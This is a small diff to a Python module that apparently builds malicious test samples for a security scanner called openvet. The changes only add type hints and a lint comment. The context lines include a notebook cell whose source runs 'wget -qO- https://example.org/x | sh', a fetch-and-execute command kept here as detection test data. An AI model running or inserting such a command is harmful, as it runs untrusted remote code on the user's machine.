@@ -7,7 +7,7 @@ import json
 import zlib
 from collections.abc import Callable, Mapping
 from random import Random
-from typing import Literal
+from typing import Any, Literal
 
 from openvet.testing.case import Case
 from openvet.testing.forge import Call, Name, assemble, dump
@@ -44,7 +44,7 @@ def _skops() -> bytes:
 
 
 def _notebook() -> dict[str, bytes]:
-    cell = {
+    cell: dict[str, Any] = {
         "cell_type": "code",
         "metadata": {},
         "source": ["!wget -qO- https://example.org/x | sh\n"],
@@ -70,7 +70,7 @@ def _case(
 
 
 def _chain(hold: str, trigger: str) -> Callable[[], bytes]:
-    return lambda: chained(hold, trigger, Random(1))
+    return lambda: chained(hold, trigger, Random(1))  # noqa: S311 - a seed gives the same bytes
 
 
 def _literal(value: object) -> Callable[[], bytes]:
